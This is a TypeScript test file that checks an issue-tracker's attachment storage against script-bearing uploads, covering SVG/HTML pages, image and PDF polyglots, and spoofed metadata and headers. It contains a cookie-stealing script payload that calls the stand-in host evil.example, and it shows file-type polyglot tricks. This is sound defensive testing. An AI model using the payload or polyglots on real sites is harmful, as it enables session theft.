import { gzipSync } from "node:zlib";
import { beforeAll, describe, expect, test } from "vitest";
import { call, fileReport, newMember, type Person, reportBody, upload } from "../support/actors.ts";
import { BUCKET, db, ORIGIN, STORAGE, uniqueId } from "../support/suite.ts";
import { expectFailure } from "./expect-failure.ts";

let member: Person;
let otherMember: Person;
beforeAll(async () => {
  [member, otherMember] = await Promise.all([newMember(), newMember()]);
});

const encodeText = (text: string) => new TextEncoder().encode(text);
const joinBytes = (...parts: (Uint8Array | number)[]) =>
  Uint8Array.from(parts.flatMap((part) => (typeof part === "number" ? [part] : [...part])));

const SCRIPT = encodeText("<script>fetch('https://evil.example/'+document.cookie)</script>");
const SVG = joinBytes(encodeText('<svg xmlns="http://www.w3.org/2000/svg">'), SCRIPT, encodeText("</svg>"));
const HTML = joinBytes(encodeText("<!doctype html>"), SCRIPT);
const PNG = joinBytes(0x89, encodeText("PNG\r\n"), 0x1a, 0x0a);

const newUploadPath = () => {
  const issueId = uniqueId("i");
  return { issueId, path: `attachments/${member.uid}/${issueId}/f-1` };
};

async function sendReportWithFile(issueId: string, path: string, size: number, type: string, name: string) {
  const attachments = [{ name, size, type, url: `/api/${path}` }];
  return await call("POST", "/api/issues", { as: member, body: reportBody({ id: issueId, attachments }) });
}

describe("a page with a script, uploaded directly to Storage,", () => {
  test.each([
    ["image/svg+xml", SVG],
    ["text/html", HTML],
    ["application/xhtml+xml", HTML],
    ["image/svg+xml; charset=utf-8", SVG],
    ["Text/HTML", HTML],
  ])("threat 5: is refused if its type is %s", async (type, content) => {
    expect(await upload(member, newUploadPath().path, content, type)).toBe(403);
  });

  test.each([
    ["SVG", "image/png", SVG],
    ["SVG", "image/jpeg", SVG],
    ["HTML", "image/png", HTML],
    ["HTML", "image/gif", HTML],
    ["HTML", "image/webp", HTML],
    ["HTML", "application/pdf", HTML],
    ["HTML after a byte order mark", "image/png", joinBytes(0xef, 0xbb, 0xbf, HTML)],
    ["HTML after the signature of another type", "image/jpeg", joinBytes(PNG, HTML)],
    ["HTML before the signature", "image/png", joinBytes(HTML, PNG)],
  ])("threat 5: cannot be filed as a file of another type: %s as %s", async (_, type, content) => {
    const { issueId, path } = newUploadPath();
    expect(await upload(member, path, content, type)).toBe(200);
    expectFailure(await sendReportWithFile(issueId, path, content.length, type, "a.png"), 400, "bad-request");
    expect((await db.doc(`issues/${issueId}`).get()).exists).toBe(false);
    expect((await fetchFile(path, otherMember)).status).toBe(404);
    // The member who uploaded the unlisted file can still read it.
    await expectHarmless(path, type, member);
  });

  test.each([
    ["a PNG that continues as HTML", "image/png", joinBytes(PNG, HTML)],
    ["a GIF that continues as a script", "image/gif", joinBytes(encodeText("GIF89a/*"), SCRIPT)],
    ["a JPEG that continues as HTML", "image/jpeg", joinBytes(0xff, 0xd8, 0xff, 0xe0, HTML)],
    [
      "a WebP that continues as HTML",
      "image/webp",
      joinBytes(encodeText("RIFF"), 0, 0, 0, 0, encodeText("WEBP"), HTML),
    ],
    ["a PDF that continues as HTML", "application/pdf", joinBytes(encodeText("%PDF-1.7\n"), HTML)],
    ["a text that is HTML", "text/plain", HTML],
    ["JSON that is SVG", "application/json", SVG],
  ])("threat 5: never runs if the file is valid as two types: %s", async (_, type, content) => {
    const { issueId, path } = newUploadPath();
    expect(await upload(member, path, content, type)).toBe(200);
    expect((await sendReportWithFile(issueId, path, content.length, type, "page.html")).status).toBe(201);
    await expectHarmless(path, type, otherMember);
  });
});

describe("the metadata that an uploader sets", () => {
  test.each([
    ["compressed", "gzip", gzipSync(HTML)],
    ["declared as compressed but not compressed", "br", Buffer.from(HTML)],
  ])("threat 5: a file that is %s is refused, and read back as it is stored", async (_, contentEncoding, content) => {
    const { issueId, path } = newUploadPath();
    await uploadWithMetadata(path, content, { contentType: "text/plain", contentEncoding });
    expectFailure(await sendReportWithFile(issueId, path, content.length, "text/plain", "a.log"), 400, "bad-request");
    const response = await fetchFile(path, member);
    expect(Number(response.headers.get("content-length"))).toBe(content.length);
    expect(new Uint8Array(await response.arrayBuffer())).toEqual(new Uint8Array(content));
  });

  test("threat 5: headers that the uploader chose are not sent in the response", async () => {
    const { issueId, path } = newUploadPath();
    await uploadWithMetadata(path, Buffer.from(HTML), {
      contentType: "text/plain",
      contentDisposition: "inline; filename=page.html",
      cacheControl: "public, max-age=31536000",
      contentLanguage: "en",
    });
    const attachments = [{ name: "a.log", size: HTML.length, type: "text/plain", url: `/api/${path}` }];
    await fileReport(member, { id: issueId, attachments });
    await expectHarmless(path, "text/plain", otherMember);
    expect((await fetchFile(path, otherMember)).headers.get("cache-control")).toMatch(/^private,/);
  });
});

async function fetchFile(path: string, person: Person): Promise<Response> {
  return await fetch(`${ORIGIN}/api/${path}`, { headers: { authorization: `Bearer ${person.idToken}` } });
}

/** Expects headers with which a browser runs no script: the listed type without sniffing, and a sandbox. */
async function expectHarmless(path: string, type: string, person: Person): Promise<void> {
  const { status, headers } = await fetchFile(path, person);
  expect({ status, ...Object.fromEntries(headers) }).toMatchObject({
    status: 200,
    "content-type": expect.stringMatching(new RegExp(`^${type}(;|$)`)),
    "x-content-type-options": "nosniff",
    "content-security-policy": "default-src 'none'; sandbox",
    // The page converts pictures to JPEG before the upload, so browsers need to display no other type.
    "content-disposition": expect.stringMatching(type === "image/jpeg" ? /^inline$/ : /^attachment;/),
  });
}

/** Uploads a file as the member, with metadata that the member chooses. */
async function uploadWithMetadata(
  path: string,
  content: Buffer,
  metadata: { contentType: string } & Record<string, string>,
) {
  const metadataJson = JSON.stringify({ name: path, ...metadata });
  const body = Buffer.concat([
    Buffer.from(`--part\r\ncontent-type: application/json\r\n\r\n${metadataJson}\r\n`),
    Buffer.from(`--part\r\ncontent-type: ${metadata.contentType}\r\n\r\n`),
    content,
    Buffer.from("\r\n--part--"),
  ]);
  const response = await fetch(`${STORAGE}/v0/b/${BUCKET}/o?name=${encodeURIComponent(path)}`, {
    method: "POST",
    headers: {
      authorization: `Firebase ${member.idToken}`,
      "content-type": "multipart/related; boundary=part",
      "x-goog-upload-protocol": "multipart",
    },
    body,
  });
  expect(response.status).toBe(200);
}
